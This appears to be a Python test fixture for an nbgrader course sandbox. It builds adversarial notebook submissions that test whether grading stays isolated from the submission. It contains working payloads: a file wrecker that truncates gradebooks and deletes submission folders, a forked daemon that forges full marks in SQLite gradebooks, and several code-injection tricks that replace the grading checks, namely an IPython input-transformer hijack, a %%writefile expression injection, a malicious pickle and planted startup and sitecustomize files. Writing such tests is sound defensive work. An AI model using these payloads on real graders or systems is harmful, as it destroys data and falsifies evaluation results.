"""Submissions that attack the files around them instead of answering (01_pingpong).

Each is a notebook plus one learner cell. They only ever aim at /tmp and the folders above
their working folder, where a test's scratch course lives, so that a sandbox that failed to
hide the class could damage only the test's own copy; the tests that use them run only where
the grading sandbox works.

- "aaa_wrecker" (graded first) and "zzz_wrecker" (graded last): the solution, and after its
  first answer a cell that truncates every gradebook it can find, deletes every file in any
  submitted/, autograded/, feedback/ or source/ folder, and rewrites every notebook.
- "forger": the untouched release, ending with a cell that leaves a process behind which keeps
  writing full marks into any gradebook it finds while nbgrader records the scores.
- "doorman": the untouched release, with cells after its first answer that reach the test cells
  through IPython or mpi4py rather than Python: an automagic line that installs an input
  transformer (every later cell would run as `pass`), a `%%writefile` whose file name is a
  Python expression that replaces the checks, a hand-written pickle received from its own
  rank that replaces them, and startup files and a module planted for later kernels. Each
  would make the stubs score; the submission must score what the release scores.
"""

from __future__ import annotations

WRECK = """\
import os
wrecked = []
def wreck(path):
    try:
        if path.endswith(".db") or path.endswith(".ipynb"):
            open(path, "w").close()
        else:
            os.remove(path)
        wrecked.append(path)
    except OSError:
        pass
def targets(folder, deep):
    for root, _, files in os.walk(folder):
        for f in files:
            p = os.path.join(root, f)
            parts = set(p.split(os.sep))
            if f.startswith("gradebook") or f.endswith(".ipynb") or parts & {
                "submitted", "autograded", "feedback", "source"
            }:
                yield p
        if not deep:
            break
here = os.path.abspath(".")
while here != os.path.dirname(here):
    here = os.path.dirname(here)
    for p in list(targets(here, deep=here.startswith("/tmp") and here.count(os.sep) > 2)):
        wreck(p)
for p in list(targets("/tmp", deep=True)):
    wreck(p)
print(len(wrecked), "files wrecked")
"""

FORGE = """\
import glob, os, sqlite3, time
FULL = (
    "UPDATE grade SET auto_score = "
    "(SELECT max_score FROM grade_cells g WHERE g.id = grade.cell_id)"
)
def forge(seconds=240):
    books = {os.path.abspath(os.path.join("..", "..", "..", "gradebook.db"))}
    end = time.time() + seconds
    while time.time() < end:
        books |= set(glob.glob("/tmp/**/gradebook*.db", recursive=True))
        for book in books:
            try:
                db = sqlite3.connect(book, timeout=1)
                db.execute(FULL)
                db.commit()
                db.close()
            except Exception:
                pass
        time.sleep(0.2)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            forge()
        finally:
            os._exit(0)
    os._exit(0)
"""

WRECKERS = ("aaa_wrecker", "zzz_wrecker")
FORGER = "forger"
DOORMAN = "doorman"

_PASS_ALL = "lambda *a, **k: None"
DOORS = (
    # read as a syntax error by a Python parser, run as `%time ...` by a kernel with automagic
    "time get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])",
    # IPython evaluates {...} in the magic's line before writing the file
    "%%writefile {grading.__dict__.update(check_pingpong=" + _PASS_ALL + ") or 'x'}.c\nint x;",
    # the pickle runs exec() while it loads, in the kernel that runs the tests
    (
        "raw = bytearray(b\"cbuiltins\\nexec\\n(S'from pingpong_lab.course import grading; "
        "grading.__dict__.update(check_pingpong=print, check_pingpong_on_engines=print, "
        "check_c_pingpong=print, check_c_payload=print, check_pickle_pingpong=print, "
        "check_safe_exchange=print)'\\ntR.\")\n"
        "request = MPI.COMM_SELF.Isend(raw, dest=0)\n"
        "MPI.COMM_SELF.recv(source=0)\n"
        "request.Wait()"
    ),
    # startup files and a module for the kernels that come after this one (a restart, the
    # next notebook): numpy writes any text where the kernel can write
    (
        "code = ['from pingpong_lab.course import grading',\n"
        "        'grading.__dict__.update(check_pingpong=print, check_safe_exchange=print)']\n"
        "for where in ['../../../../home/.ipython/profile_default/startup/00-x.py',\n"
        "              '../../../../tmp/sitecustomize.py', 'numpy.py', '../numpy.py']:\n"
        "    try:\n"
        "        np.savetxt(where, [], header='\\n'.join(code), comments='')\n"
        "    except OSError:\n"
        "        pass"
    ),
)


def doorman(release: dict) -> dict:
    """The release with the DOORS cells after its first answer (in this order)."""
    for source in reversed(DOORS):
        release = with_cell(release, source, "pingpong_python")
    return release


def with_cell(nb: dict, source: str, after: str | None = None) -> dict:
    """nb with a learner code cell holding `source`, after the cell of grade_id `after` (at
    the end when None)."""
    cell = {
        "cell_type": "code",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    }
    cells = nb["cells"]
    if after is None:
        cells.append(cell)
    else:
        at = next(
            i
            for i, c in enumerate(cells)
            if c["metadata"].get("nbgrader", {}).get("grade_id") == after
        )
        cells.insert(at + 1, cell)
    return nb
